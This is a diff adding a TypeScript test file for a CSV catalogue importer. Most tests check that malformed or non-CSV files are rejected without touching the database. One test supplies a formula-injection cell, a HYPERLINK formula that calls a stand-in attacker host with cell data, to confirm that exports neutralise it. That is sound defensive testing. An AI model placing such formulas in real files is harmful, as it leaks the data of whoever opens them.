@@ -1,0 +1,74 @@
+import { onEveryDialect } from '../../../testing/onEveryDialect.ts';
+import { openFileBench } from '../../../testing/openFileBench.ts';
+import { readEverything } from '../../../testing/readEverything.ts';
+import { sizeRow, tableFile, tiendanubeRow } from '../../../testing/tableFile.ts';
+
+const WHOLE = tableFile([
+  tiendanubeRow('gorra', { Descripción: 'Ñandú “fino”, 100 %' }),
+  sizeRow('remera', ['Rojo', 'M'], { Descripción: 'Dos\nlíneas' }),
+]);
+
+onEveryDialect('files that are no catalogue, or not all of one', (database) => {
+  const bench = openFileBench();
+
+  it.each<[string, Uint8Array | string, RegExp]>([
+    ['nothing', '', /catalogue\.csv is empty\.$/],
+    ['empty lines', '\n\n\n', /catalogue\.csv has no rows\.$/],
+    ['a letter', 'Estimados:\n\nles escribo\n', /neither Tiendanube nor Shopify: "Estimados:"\.$/],
+    ['a spreadsheet', 'PK\u0003\u0004 xl/workbook.xml', /save it as CSV\.$/],
+    ['a picture', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), /is no text/],
+    ['zeros among the text', WHOLE.replace('gorra', 'go\u0000rra'), /is no text/],
+    ['UTF-16', Buffer.from(`\ufeff${WHOLE}`, 'utf16le'), /is in UTF-16: save it as UTF-8\.$/],
+    ['UTF-16 of Macs', Buffer.from(`\ufeff${WHOLE}`, 'utf16le').swap16(), /is in UTF-16/],
+    ['another encoding', Buffer.from([0x4e, 0xf1, 0x81]), /neither UTF-8 nor/],
+    [
+      'a cut within quotes',
+      WHOLE.slice(0, WHOLE.indexOf('líneas')),
+      /a quote opens that never closes/,
+    ],
+    ['a cut within a row', WHOLE.slice(0, WHOLE.indexOf('remera;') + 7), /ends within line 3/],
+    [
+      'a cut within a letter',
+      Buffer.from(WHOLE).subarray(0, Buffer.from(WHOLE).indexOf('ú') + 1),
+      /ends in the middle of a letter/,
+    ],
+    [
+      'a column twice',
+      WHOLE.replace('Nombre', 'Precio'),
+      /"Precio" stands twice in the first line/,
+    ],
+    ['a row without end', `${WHOLE}"${'x'.repeat(1_200_000)}`, /longer than a row can be/],
+  ])('%s', async (_what, bytes, reason) => {
+    const before = await readEverything(database());
+    await expect(bench.importFile(database(), bytes)).rejects.toThrow(reason);
+    await expect(bench.importFile(database(), bytes)).rejects.not.toThrow(/\n/);
+    expect(await readEverything(database())).toEqual(before);
+  });
+
+  it('the same file whole goes in', async () => {
+    expect(await bench.importFile(database(), WHOLE)).toMatchObject({ created: 2, refused: 0 });
+  });
+
+  it('a header alone is a catalogue without products', async () => {
+    const [header = ''] = WHOLE.split('\n');
+    expect(await bench.importFile(database(), header)).toMatchObject({ rows: 0, created: 0 });
+  });
+
+  it('formulas are text, and go out so that no spreadsheet runs them', async () => {
+    const formula = '=HYPERLINK("http://evil.example/"&A1)';
+    await bench.importFile(
+      database(),
+      tableFile([tiendanubeRow('formula', { Nombre: formula, Tags: '@SUM(1+1)', SKU: '+1' })]),
+    );
+    const file = await bench.exportFile(database(), 'tiendanube');
+    expect(file).toContain(`"'=HYPERLINK(""http://evil.example/""&A1)"`);
+    expect(file).not.toMatch(/(^|[;\n"])[=+\-@]/);
+    expect(await bench.importFile(database(), file)).toMatchObject({ created: 0, updated: 0 });
+  });
+
+  it('a format that it is not is told by the columns that it lacks', async () => {
+    await expect(bench.importFile(database(), WHOLE, { format: 'shopify' })).rejects.toThrow(
+      'A Shopify file needs the column "Handle", "Title", "Variant Price".',
+    );
+  });
+});
